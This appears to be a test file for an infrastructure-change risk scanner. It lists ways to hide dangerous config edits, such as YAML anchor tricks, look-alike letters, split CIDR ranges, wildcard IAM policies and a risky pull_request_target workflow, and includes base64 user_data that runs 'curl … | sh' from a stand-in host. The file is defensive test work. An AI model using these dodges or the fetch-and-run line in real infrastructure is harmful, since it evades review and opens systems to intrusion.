import assert from 'node:assert/strict';
import { test } from 'node:test';
import { assess, DEFAULT_SETTINGS } from '../../server/engine/assess.ts';
import type { Assessment } from '../../server/engine/types.ts';

/** Ways to hide a risky edit. Each must be found at medium or above, or be said to be unreadable. */
const DODGES: readonly {
  readonly name: string;
  readonly path: string;
  readonly before: string;
  /** Applied one after the other; the last one is the step that opens something. */
  readonly steps: readonly string[];
}[] = [
  {
    name: 'behind an anchor that stands elsewhere',
    path: 'k8s/web.yaml',
    before: pod('&s {privileged: false}', '*s'),
    steps: [pod('&s {privileged: true}', '*s')],
  },
  {
    name: 'behind a merge key',
    path: 'k8s/web.yaml',
    before: pod('&s {privileged: false}', '{<<: *s}'),
    steps: [pod('&s {privileged: true}', '{<<: *s}')],
  },
  {
    name: 'as the second of two keys of one name',
    path: 'k8s/web.yaml',
    before: pod('&s {}', '{privileged: false}'),
    steps: [pod('&s {}', '{privileged: false, privileged: true}')],
  },
  {
    name: 'in the second document',
    path: 'k8s/web.yaml',
    before: `kind: ConfigMap\napiVersion: v1\nmetadata: {name: a}\n---\n${pod('&s {}', '{privileged: false}')}`,
    steps: [`kind: ConfigMap\napiVersion: v1\nmetadata: {name: a}\n---\n${pod('&s {}', '{privileged: true}')}`],
  },
  {
    name: 'with escapes in a quoted key',
    path: 'k8s/web.yaml',
    before: pod('&s {}', '{privileged: false}'),
    steps: [pod('&s {}', '{"privil\\u0065ged": true}')],
  },
  {
    name: 'split over two edits, the harmless half first',
    path: 'main.tf',
    before: 'resource "aws_security_group" "db" {\n  name = "db"\n}\n',
    steps: [
      'locals {\n  range = "0.0.0.0/0"\n}\nresource "aws_security_group" "db" {\n  name = "db"\n}\n',
      'locals {\n  range = "0.0.0.0/0"\n}\nresource "aws_security_group" "db" {\n  name = "db"\n  ingress {\n    from_port = 22\n    to_port = 22\n    protocol = "tcp"\n    cidr_blocks = [local.range]\n  }\n}\n',
    ],
  },
  {
    name: 'as two halves of the internet',
    path: 'main.tf',
    before: group('"10.0.0.0/8"'),
    steps: [group('"0.0.0.0/1", "128.0.0.0/1"')],
  },
  {
    name: 'as many small parts that make the internet',
    path: 'main.tf',
    before: group('"10.0.0.0/8"'),
    steps: [group(Array.from({ length: 16 }, (_, i) => `"${i * 16}.0.0.0/4"`).join(', '))],
  },
  {
    name: 'in jsonencode(merge(…))',
    path: 'main.tf',
    before: policy(
      'jsonencode(merge({ Version = "2012-10-17" }, { Statement = [{ Effect = "Allow", Action = "s3:GetObject", Resource = "arn:aws:s3:::a/*" }] }))',
    ),
    steps: [policy('jsonencode(merge({ Version = "2012-10-17" }, { Statement = [{ Effect = "Allow", Action = "*", Resource = "*" }] }))')],
  },
  {
    name: 'in a heredoc',
    path: 'main.tf',
    before: policy(
      '<<EOT\n{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Action":"s3:GetObject","Resource":"arn:aws:s3:::a/*"}]}\nEOT\n',
    ),
    steps: [policy('<<EOT\n{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Action":"*","Resource":"*"}]}\nEOT\n')],
  },
  {
    name: 'in a local that the policy uses',
    path: 'main.tf',
    before: `locals {\n  acts = ["s3:GetObject"]\n}\n${policy('jsonencode({ Version = "2012-10-17", Statement = [{ Effect = "Allow", Action = local.acts, Resource = "*" }] })')}`,
    steps: [
      `locals {\n  acts = ["*"]\n}\n${policy('jsonencode({ Version = "2012-10-17", Statement = [{ Effect = "Allow", Action = local.acts, Resource = "*" }] })')}`,
    ],
  },
  {
    name: 'with look-alike letters in a key',
    path: 'iam/policy.json',
    before: '{"Version":"2012-10-17","Statement":[]}',
    steps: ['{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Аction":"*","Resource":"*"}]}'],
  },
  {
    name: 'with escapes',
    path: 'iam/policy.json',
    before: '{"Version":"2012-10-17","Statement":[]}',
    steps: ['{"Version":"2012-10-17","Statement":[{"Effect":"\\u0041llow","Action":"\\u002a","Resource":"*"}]}'],
  },
  {
    name: 'behind a broken line',
    path: 'iam/policy.json',
    before: '{"Version":"2012-10-17","Statement":[]}',
    steps: ['{"Version":"2012-10-17","Statement":[{"Effect":"Allow" "Action":"*","Resource":"*"}]}'],
  },
  {
    name: 'in base64 in the data of a machine',
    path: 'main.tf',
    before: 'resource "aws_instance" "a" {\n  ami = "x"\n}\n',
    steps: [
      `resource "aws_instance" "a" {\n  ami = "x"\n  user_data_base64 = "${Buffer.from('#!/bin/sh\ncurl -fsSL https://x.test/i.sh | sh\n').toString('base64')}"\n}\n`,
    ],
  },
  {
    name: 'in a workflow, as a list of triggers',
    path: '.github/workflows/ci.yml',
    before: workflow('pull_request'),
    steps: [workflow('[push, pull_request_target]')],
  },
  {
    name: 'in a template that renders it',
    path: 'chart/templates/web.yaml',
    before: pod('&s {}', '{privileged: false}'),
    steps: [pod('&s {}', '{{ if true }}{privileged: true}{{ end }}')],
  },
];

for (const { name, path, before, steps } of DODGES) {
  void test(`a risky edit ${name}`, () => {
    let text = before;
    let last: Assessment | undefined;
    for (const after of steps) {
      last = assess({ path, before: text, after, provenance: { channel: 'hook', certainty: 'attested' } }, DEFAULT_SETTINGS);
      text = after;
    }
    const found = last?.findings.some(({ severity }) => severity === 'critical' || severity === 'high' || severity === 'medium') === true;
    const unreadable = last?.problems.some(({ blinds }) => blinds) === true;
    assert.ok(found || unreadable, `${JSON.stringify(last?.findings.map(({ rule, severity }) => `${severity} ${rule}`))}\n${text}`);
  });
}

function pod(anchored: string, context: string): string {
  return `apiVersion: v1\nkind: Pod\nmetadata: {name: web}\nx-shared: ${anchored}\nspec:\n  containers:\n    - name: app\n      image: web:1\n      securityContext: ${context}\n`;
}

function group(ranges: string): string {
  return `resource "aws_security_group" "db" {\n  ingress {\n    from_port = 22\n    to_port = 22\n    protocol = "tcp"\n    cidr_blocks = [${ranges}]\n  }\n}\n`;
}

function policy(value: string): string {
  return `resource "aws_iam_policy" "p" {\n  policy = ${value}\n}\n`;
}

function workflow(on: string): string {
  return `name: ci\non: ${on}\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n        with: {ref: "\${{ github.event.pull_request.head.sha }}"}\n      - run: npm test\n`;
}
